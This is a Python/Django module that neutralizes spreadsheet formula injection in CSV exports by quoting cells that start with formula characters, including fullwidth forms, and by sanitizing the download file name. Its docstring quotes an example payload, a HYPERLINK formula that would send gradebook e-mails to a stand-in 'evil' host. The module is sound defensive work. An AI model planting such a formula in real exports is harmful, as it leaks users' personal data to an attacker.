"""The one CSV writer of every export: no cell reaches a spreadsheet as a formula.

A spreadsheet program runs a cell whose text starts with = + - @ (and, in some, TAB or
CR before one of them) as a formula: a lesson titled ``=HYPERLINK("https://evil/?"&A2)``
in a gradebook header sends the learners' e-mails to whoever wrote it when the gradebook
is opened. Every text cell, headers included, that starts with such a character, or with
its fullwidth or small form (U+FF1D FULLWIDTH EQUALS SIGN and friends, which some spreadsheets read as the
ASCII character), gets a leading apostrophe: spreadsheets show it as text, and a reader
of the raw file sees what was there. Numbers are data and pass unchanged (-5 stays -5).
See ADR 0075.
"""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Iterable, Sequence
from typing import Any

from django.http import HttpResponse

FORMULA_STARTS = frozenset("=+-@\t\r")


def neutralize(value: Any) -> Any:
    """The cell as written: text that a spreadsheet would run as a formula, quoted as text."""
    if not isinstance(value, str) or not value:
        return value
    first = value[0]
    if first in FORMULA_STARTS or unicodedata.normalize("NFKC", first)[:1] in FORMULA_STARTS:
        return "'" + value
    return value


class CsvWriter:
    """`csv.writer` with every cell of every row (the header is a row) neutralized."""

    def __init__(self, stream) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralize(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def _safe_filename(filename: str) -> str:
    # The name goes into a header: nothing but what a file name needs (no quotes, no CR/LF).
    cleaned = re.sub(r"[^A-Za-z0-9._-]+", "-", filename).strip(".-")
    return cleaned or "export.csv"


def csv_response(*, filename: str, header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> HttpResponse:
    """A CSV download of `header` then `rows`, every cell neutralized."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{_safe_filename(filename)}"'
    writer = CsvWriter(response)
    writer.writerow(header)
    writer.writerows(rows)
    return response
